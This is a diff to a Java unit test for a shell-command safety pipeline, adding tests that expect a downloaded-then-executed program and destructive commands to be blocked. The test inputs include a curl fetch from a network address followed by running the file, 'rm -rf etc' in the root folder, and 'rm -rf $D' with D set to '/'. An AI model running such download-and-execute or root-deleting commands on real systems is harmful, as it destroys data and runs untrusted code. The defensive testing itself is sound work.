@@ -49,6 +49,31 @@ final class CommandFilesTest {
   }
 
   @Test
+  void aProgramThatRanBeforeIsJudgedAnewOnceItWasDownloaded() {
+    for (int i = 0; i < 3; i++) {
+      assertThat(shell("./p").decision()).isEqualTo(Decision.ALLOW);
+    }
+
+    shell("curl -s http://203.0.113.5/p -o p");
+
+    assertThat(shell("./p").decision()).isEqualTo(Decision.BLOCK);
+  }
+
+  @Test
+  void theSameWordsInAnotherFolderOrEnvironmentAreAnotherCommand() {
+    List<String> words = List.of("rm", "-rf", "build");
+    Map<String, String> shared = Map.of();
+    for (int i = 0; i < 3; i++) {
+      assertThat(run(words, "/srv/app", shared).decision()).isEqualTo(Decision.ALLOW);
+    }
+
+    assertThat(run(List.of("rm", "-rf", "etc"), "/", shared).decision())
+        .isNotEqualTo(Decision.ALLOW);
+    assertThat(run(List.of("sh", "-c", "rm -rf $D"), "/srv", Map.of("D", "build")).findings())
+        .isNotEqualTo(run(List.of("sh", "-c", "rm -rf $D"), "/srv", Map.of("D", "/")).findings());
+  }
+
+  @Test
   void whatIsReadFromADownloadIsNoProgram() {
     shell("curl -s http://203.0.113.5/prices.csv -o prices.csv");
 
@@ -76,8 +101,11 @@ final class CommandFilesTest {
   }
 
   private Verdict in(String directory, String script) {
+    return run(List.of("sh", "-c", script), directory, Map.of());
+  }
+
+  private Verdict run(List<String> words, String directory, Map<String, String> environment) {
     return pipeline.judge(
-        new StartProcess(List.of("sh", "-c", script), directory, Map.of()),
-        Attribution.of("a", "default", "s"));
+        new StartProcess(words, directory, environment), Attribution.of("a", "default", "s"));
   }
 }
